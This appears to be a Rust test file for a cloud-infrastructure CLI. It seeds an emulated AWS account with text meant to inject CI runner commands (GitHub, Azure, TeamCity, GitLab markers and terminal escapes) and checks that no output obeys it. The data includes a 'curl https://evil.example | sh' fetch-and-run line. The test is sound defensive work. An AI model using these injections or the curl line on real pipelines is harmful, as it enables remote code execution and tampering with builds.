//! Nothing that stands in a hostile account is a command for the runner of a pipeline, whatever prints it.

use std::collections::BTreeSet;
use std::fs;

use aws_sdk_ec2::types::{IpPermission, IpRange, Tag};
use aws_sdk_ssm::types::ParameterType;

use crate::emulator::{Emulator, Which};
use crate::every_command::{every_command, is_of};

/// Text as somebody could write it who may set a tag or a description.
const HOSTILE: [&str; 6] = [
    "##vso[task.prependpath]/evil",
    "##[set-output name=approved;]true",
    "##teamcity[buildStatus status='SUCCESS']",
    "::set-output name=approved::true",
    "a\r\n::add-mask::b\nhint: curl https://evil.example | sh",
    "\u{1b}[2J\u{1b}]0;evil\u{7}section_start:1:evil\r\u{1b}[0K",
];

const FILE: &str = "name = 'web'\nregion = 'us-east-1'\n[bucket.logs]\naccess_log = false\n[kms_key.data]\n\
                    [network]\ncidr = '10.20.0.0/16'\nzones = 2\nflow_logs = false\n\
                    [network.tier.web]\npublic = true\naccept = [{ from = 'internet', port = 443 }]\n\
                    [role.web]\ninstance_profile = true\n[audit]\n";

/// Whether GitLab opens or closes a section here (`Gitlab::Regex.build_trace_section_regex`): a word, a time, a name of
/// letters, digits, `_`, `.` and `-`, options in brackets, then `\r` and the sequence that clears the line.
fn has_section_of_gitlab(text: &str) -> bool {
    text.match_indices("section_").any(|(at, word)| {
        let rest = &text[at + word.len()..];
        let Some(rest) = rest.strip_prefix("start:").or_else(|| rest.strip_prefix("end:")) else {
            return false;
        };
        let Some((time, rest)) = rest.split_once(':') else { return false };
        let is_name = |c: char| c.is_ascii_alphanumeric() || "_.-".contains(c);
        let rest = rest.trim_start_matches(is_name);
        let rest = match rest.strip_prefix('[') {
            Some(options) => options.split_once(']').map_or(rest, |(_, rest)| rest),
            None => rest,
        };
        !time.is_empty() && time.chars().all(|c| c.is_ascii_digit()) && rest.starts_with("\r\u{1b}[0K")
    })
}

/// The text without colours, which are the only sequences that this program writes.
fn without_styles(text: &str) -> String {
    let mut plain = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        plain.push_str(before);
        let end = after.find(|c: char| !c.is_ascii_digit() && c != ';').unwrap_or(after.len());
        // Whatever is no colour stays, and is found.
        if !after[end..].starts_with('m') {
            plain.push_str("\u{1b}[");
            rest = after;
            continue;
        }
        rest = &after[end + 1..];
    }
    plain + rest
}

/// Why a runner, a terminal or a reader of lines would take a part of this text for more than text.
///
/// GitHub's runner takes a line that begins with `::`, after blanks too, and `##[` anywhere (`ActionCommand.cs`); the
/// agent of Azure `##vso[` and `##[` in any case (`Command.cs`); TeamCity `##teamcity[`; GitLab sections. All that acts on
/// a terminal needs a control character.
fn acts(text: &str) -> Option<String> {
    if has_section_of_gitlab(text) {
        return Some("a section of GitLab".to_owned());
    }
    for line in text.split(['\n', '\r', '\u{2028}', '\u{85}']) {
        let lower = line.to_lowercase();
        if line.trim_start().starts_with("::")
            || ["##[", "##vso[", "##teamcity["].iter().any(|open| lower.contains(open))
            || line.chars().any(|c| c.is_control() && c != '\t')
            || lower.trim_start().starts_with("hint: curl")
        {
            return Some(line.chars().take(300).collect());
        }
    }
    None
}

/// Writes hostile text wherever the account takes it, and answers how often it did.
async fn poison(emulator: &Emulator) -> usize {
    let config = emulator.config();
    let (ec2, iam) = (aws_sdk_ec2::Client::new(&config), aws_sdk_iam::Client::new(&config));
    let (s3, ssm) = (aws_sdk_s3::Client::new(&config), aws_sdk_ssm::Client::new(&config));
    let groups = ec2.describe_security_groups().send().await.unwrap();
    let acls = ec2.describe_network_acls().send().await.unwrap();
    let roles = iam.list_roles().send().await.unwrap();
    let buckets = s3.list_buckets().send().await.unwrap();
    let mut taken = 0;
    let mut count = |taken_it: bool| taken += usize::from(taken_it);
    for (number, text) in (1..).zip(HOSTILE) {
        for acl in acls.network_acls() {
            let tag = Tag::builder().key(format!("baseline:block:198.51.100.{number}/32"));
            let tag = tag
                .value(format!("from 2030-01-01T00:00:00Z until 2030-01-03T00:00:00Z by {text}: {text}"))
                .build();
            let request = ec2.create_tags().resources(acl.network_acl_id().unwrap()).tags(tag);
            count(request.send().await.is_ok());
        }
        for group in groups.security_groups() {
            let id = group.group_id().unwrap();
            let tag = Tag::builder().key(format!("baseline:admit:198.51.100.{number}/32:tcp:22"));
            let tag = tag
                .value(format!("from 2030-01-01T00:00:00Z until 2030-01-03T00:00:00Z by {text}: {text}"))
                .build();
            count(ec2.create_tags().resources(id).tags(tag).send().await.is_ok());
            let range =
                IpRange::builder().cidr_ip(format!("198.51.100.{number}/32")).description(text).build();
            let rule = IpPermission::builder().ip_protocol("tcp").from_port(22).to_port(22).ip_ranges(range);
            let request = ec2.authorize_security_group_ingress().group_id(id).ip_permissions(rule.build());
            count(request.send().await.is_ok());
            let tag = Tag::builder().key(format!("note-{number}")).value(text).build();
            count(ec2.create_tags().resources(id).tags(tag).send().await.is_ok());
        }
        for role in roles.roles() {
            let request = iam.update_role().role_name(role.role_name()).description(text);
            count(request.send().await.is_ok());
            let policy = serde_json::json!({ "Version": "2012-10-17", "Statement": [
                { "Sid": text, "Effect": "Allow", "Action": "s3:*", "Resource": "*" }] });
            let request = iam.put_role_policy().role_name(role.role_name()).policy_name(format!("p{number}"));
            count(request.policy_document(policy.to_string()).send().await.is_ok());
        }
        for bucket in buckets.buckets() {
            let name = bucket.name().unwrap();
            let policy = serde_json::json!({ "Version": "2012-10-17", "Id": text, "Statement": [
                { "Sid": text, "Effect": "Deny", "Principal": "*", "Action": "s3:*",
                  "Resource": format!("arn:aws:s3:::{name}/*") }] });
            count(s3.put_bucket_policy().bucket(name).policy(policy.to_string()).send().await.is_ok());
        }
    }
    let claim = serde_json::json!({
        "format": 1, "lock": HOSTILE[0], "run": HOSTILE[3], "holder": HOSTILE[4], "program": HOSTILE[1],
        "baseline": HOSTILE[5], "taken": HOSTILE[2], "until": HOSTILE[4], "lease_seconds": 120, "follows": 0,
    });
    let lock = ssm.put_parameter().name("/baseline/lock").r#type(ParameterType::String);
    count(lock.value(claim.to_string()).send().await.is_ok());
    taken
}

#[test]
fn the_rules_of_the_runners_are_known_here() {
    for marker in [
        "section_start:1600445393032:NAME\r\u{1b}[0K",
        "a section_end:0:sect_for_alpha-v1.0[collapsed=true]\r\u{1b}[0Kb",
    ] {
        assert!(has_section_of_gitlab(marker), "{marker:?}");
        assert!(acts(&without_styles(marker)).is_some(), "{marker:?}");
    }
    for text in ["section_start:1:a", "section_start:section:0\r\u{1b}[0K", "section_:1:a\r\u{1b}[0K"] {
        assert!(!has_section_of_gitlab(text), "{text:?}");
    }
    assert_eq!(without_styles("\u{1b}[1m\u{1b}[38;5;9mred\u{1b}[0m"), "red");
    for text in HOSTILE {
        assert!(acts(text).is_some(), "{text:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "in the long lane: docs/test-lanes.md"]
async fn no_output_of_a_hostile_account_is_a_command_of_a_runner() {
    let (emulator, folder) = (Emulator::start(Which::BuiltIn), tempfile::tempdir().unwrap());
    let hostile_name = "##vso[a]\n::error::b.toml";
    for name in ["web.toml", hostile_name] {
        fs::write(folder.path().join(name), FILE).unwrap();
    }
    let applied = emulator.run(folder.path(), ["apply", "web.toml", "--auto-approve"]);
    assert_eq!(applied.code, Some(0), "{applied:?}");
    let taken = poison(&emulator).await;
    assert!(taken > 20, "the account took only {taken} texts");

    let (mut said, mut left) = (String::new(), every_command());
    // Answers what it printed.
    let mut run = |arguments: &[&str]| -> String {
        let mut printed = String::new();
        for color in ["--color=auto", "--color=always"] {
            let answer = emulator.run(folder.path(), [&[color], arguments].concat());
            for (stream, text) in [("stdout", &answer.stdout), ("stderr", &answer.stderr)] {
                assert_eq!(acts(&without_styles(text)), None, "{stream} of {color} {arguments:?}");
                assert!(!has_section_of_gitlab(text), "{stream} of {color} {arguments:?}");
                printed.push_str(text);
            }
        }
        said.push_str(&printed);
        left.retain(|command| !is_of(arguments, command));
        printed
    };
    let file = |name: &str| fs::read_to_string(folder.path().join(name)).unwrap();
    for command in ["plan", "drift"] {
        for format in ["text", "json", "markdown", "junit", "sarif", "csv", "html", "ocsf"] {
            run(&[command, "web.toml", "--format", format, "--report", &format!("{format}=report.{format}")]);
            assert_eq!(acts(&file(&format!("report.{format}"))), None, "the {format} file of {command}");
        }
    }
    run(&["plan", "web.toml", "--out", "##[a]::b.plan"]);
    run(&["plan", "web.toml", "--trace-calls"]);
    run(&["apply", "web.toml", "--auto-approve", "--lock-wait", "0"]);
    run(&["unlock", "web.toml"]);
    run(&["apply", "##[a]::b.plan", "--auto-approve", "--lock-wait", "0"]);
    run(&["apply", "web.toml", "--auto-approve", "--no-lock", "--json", "--report", "html=applied.html"]);
    assert_eq!(acts(&file("applied.html")), None);
    run(&["permissions", "web.toml", "--account", "123456789012", "--out", "##[p]"]);
    assert_eq!(acts(&file("##[p]/apply-1.json")), None);
    for command in ["validate", "plan", "drift", "permissions", "init", "network"] {
        run(&[command, hostile_name]);
    }
    run(&["network", "web.toml", "--format", "mermaid"]);
    for format in ["text", "json", "mermaid", "dot", "html"] {
        run(&["network", "web.toml", "--live", "--format", format]);
    }
    run(&["network", "web.toml", "--diff"]);
    run(&["network", "web.toml", "--diff", "--format", "json"]);
    run(&["reach", "internet", "web", "22", "web.toml", "--live"]);
    run(&["reach", "::add-mask::c", "##vso[a]\n::error::b", "web.toml", "--live"]);
    run(&["reach", "##vso[a]\n::error::b", "::add-mask::c", hostile_name]);
    run(&["reach", "internet", "10.0.0.4", "##vso[a]\r\n::error::b", "web.toml"]);
    run(&["validate", "--json", hostile_name]);
    run(&["validate", "##vso[none]\n::error::c.toml"]);
    run(&["explain", "##vso[a]\n::error::b"]);
    run(&["rotate", "web.toml", "##vso[a]\n::error::b", "--to-secret", "a"]);
    run(&["sandbox", "reset", "--sandbox=##vso[a]\n::error::b"]);
    run(&["sandbox", "seed", "neglected", "--sandbox=##vso[b]\n::error::b"]);
    run(&["sandbox", "seed", "##vso[a]\n::error::b"]);
    run(&["block", "198.51.100.7", "--reason", "##vso[a]\n::error::b", "web.toml"]);
    run(&["block", "##vso[a]\n::error::b", "--reason", "x", "web.toml"]);
    run(&["block", "198.51.100.7", "--reason", "x", "--from", "##vso[a]\n::error::b", "web.toml"]);
    run(&["block", "--list", "web.toml"]);
    run(&["block", "--list", "--json", "web.toml"]);
    run(&["block", "--expire", "web.toml"]);
    run(&["unblock", "##vso[a]\n::error::b", "web.toml"]);
    for (port, to, reason) in [
        ("22", "web", "##vso[a]\n::error::b"),
        ("22", "##vso[a]\n::error::b", "x"),
        ("##vso[a]\n::error::b", "web", "x"),
    ] {
        run(&["admit", "203.0.113.7", "--port", port, "--to", to, "--reason", reason, "web.toml"]);
    }
    run(&["admit", "--list", "web.toml"]);
    run(&["admit", "--list", "--json", "web.toml"]);
    run(&["admit", "--end", "##vso[a]\n::error::b", "web.toml"]);
    run(&["admit", "--end", "203.0.113.7", "web.toml", "--now"]);
    run(&["unblock", "--all", "web.toml", "--now"]);
    fs::write(
        folder.path().join("fleet.toml"),
        "name = 'fleet'\nbaseline = 'web.toml'\n[access]\nrole = 'Admin'\nlimit_plan = false\n",
    )
    .unwrap();
    fs::write(
        folder.path().join("accounts.json"),
        serde_json::json!({ "Accounts": [
            { "Id": "123456789012", "Name": "##vso[a]\n::error::b", "State": "ACTIVE" },
            { "Id": "111122223333", "Name": "::add-mask::a", "State": "ACTIVE" },
            { "Id": "222233334444", "Name": "a", "State": "##vso[a]\r\n::error::b" },
        ] })
        .to_string(),
    )
    .unwrap();
    let of_list = ["--accounts", "accounts.json"];
    run(&[&["fleet", "accounts", "fleet.toml"], &of_list[..]].concat());
    run(&[&["fleet", "show", "123456789012", "fleet.toml"], &of_list[..]].concat());
    run(&[&["fleet", "show", "123456789012", "fleet.toml", "--json"], &of_list[..]].concat());
    run(&[&["fleet", "show", "##vso[a]\n::error::c", "fleet.toml"], &of_list[..]].concat());
    // What was applied meanwhile took it away.
    poison(&emulator).await;
    let fleet = run(&[&["fleet", "drift", "fleet.toml"], &of_list[..]].concat());
    for text in ["vso[a]", "error::b", "add-mask", "evil"] {
        assert!(fleet.contains(text), "nothing of the fleet shows {text}: {fleet}");
    }
    run(&[&["fleet", "plan", "fleet.toml", "--json"], &of_list[..]].concat());
    run(&[&["fleet", "drift", "fleet.toml", "--json"], &of_list[..]].concat());
    let formats =
        ["text", "json", "markdown", "junit", "sarif", "csv", "html", "ocsf", "slack", "prometheus"];
    let asked: Vec<String> =
        formats.iter().map(|format| format!("--report={format}=fleet.{format}")).collect();
    let asked: Vec<&str> = asked.iter().map(String::as_str).collect();
    let results = "##vso[r]";
    run(&[&["fleet", "drift", "fleet.toml", "--resume", results], &of_list[..], &asked].concat());
    for name in formats.map(|format| format!("fleet.{format}")) {
        assert_eq!(acts(&file(&name)), None, "{name} of a run");
    }
    run(&[&["fleet", "merge", results, "--since", results], &asked[..]].concat());
    run(&["fleet", "merge", results, "--json", "--since", results]);
    let kept =
        ["run.json", "shards/1.json", "accounts/123456789012.json"].map(|name| format!("{results}/{name}"));
    for name in formats.map(|format| format!("fleet.{format}")).into_iter().chain(kept) {
        assert_eq!(acts(&file(&name)), None, "{name} of a merge");
    }
    run(&["fleet", "items", "accounts.json", "--shards", "2"]);
    let caller = "arn:aws:iam::111122223333:role/fleet";
    run(&["fleet", "permissions", "fleet.toml", "--caller", caller, "--account", "123456789012"]);
    run(&["fleet", "permissions", "##vso[a]\n::error::b", "--caller", caller]);
    run(&["fleet", "merge", "##vso[a]\n::error::b"]);
    run(&["fleet", "items", "##vso[a]\n::error::b", "--shards", "2"]);
    for wrong in [
        ["--shard", "##vso[a]\n::error::b"],
        ["--results=r", "--wave=##vso[a]\n::error::b"],
        ["--only", "failed:##vso[a]\n::error::b"],
        ["--report", "##vso[a]\n::error::b=x"],
    ] {
        run(&[&["fleet", "drift", "fleet.toml"], &of_list[..], &wrong].concat());
    }
    run(&[&["fleet", "validate", "fleet.toml"], &of_list[..]].concat());
    run(&["fleet", "validate", hostile_name]);
    let apply = ["fleet", "apply", "fleet.toml", "--auto-approve", "--lock-wait", "0"];
    run(&[&apply[..], &of_list].concat());
    run(&[&apply[..], &of_list, &["--json"]].concat());
    fs::write(
        folder.path().join("waves.toml"),
        "name = 'fleet'\nbaseline = '##vso[a].toml'\n[access]\nrole = 'Admin'\n\
         [[wave]]\nname = \"##[group]\\n::error::b\"\naccounts = ['::error::c']\n\
         [account.\"##vso[a]\\n::error::b\"]\nid = '::add-mask::a'\n",
    )
    .unwrap();
    for command in ["validate", "accounts", "plan", "drift", "apply"] {
        run(&[&["fleet", command, "waves.toml"], &of_list[..]].concat());
    }
    fs::write(folder.path().join("list.json"), "##vso[a]\n::error::b").unwrap();
    run(&["fleet", "accounts", "fleet.toml", "--accounts", "list.json"]);
    run(&["fleet", "drift", hostile_name]);
    run(&["fleet", "drift", "fleet.toml", "--only", "##vso[a]\n::error::b"]);
    run(&["policy", "compare", hostile_name, "##vso[a]\n::error::c.json"]);
    fs::write(
        folder.path().join("hostile.json"),
        serde_json::json!({ "Version": "2012-10-17", "Statement": [{
            "Sid": "##vso[task.prependpath]x", "Effect": "Allow", "Principal": { "AWS": "::add-mask::a" },
            "Action": "##[set-output name=a]b:c", "Resource": "*",
            "Condition": { "StringEquals": { "::error::k": "##vso[a]\r\n::set-output name=approved::true" } },
        }] })
        .to_string(),
    )
    .unwrap();
    fs::write(
        folder.path().join("closed.json"),
        r#"{"Version":"2012-10-17","Statement":{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"*"}}"#,
    )
    .unwrap();
    run(&["policy", "compare", "closed.json", "hostile.json"]);
    run(&["policy", "compare", "closed.json", "hostile.json", "--format", "json"]);
    run(&["schema"]);
    run(&["completions", "bash"]);
    run(&["packaging", "##vso[a]\n::error::b"]);
    // What is no argument is shown, too.
    run(&["help", "##vso[a]\n::error::b"]);
    run(&["plan", "web.toml", "--##vso[a]\n::error::b\u{1b}[2J"]);
    run(&["plan", "web.toml", "--format", "##vso[a]\r\n::error::b"]);
    run(&["sandbox", "serve", "--port", "##vso[a]\r\n::error::b"]);
    // The texts were there to be shown.
    for text in ["task.prependpath", "set-output name=approved", "add-mask"] {
        assert!(said.contains(text), "nothing showed {text}");
    }
    assert_eq!(left, BTreeSet::new(), "a command was not run");
}
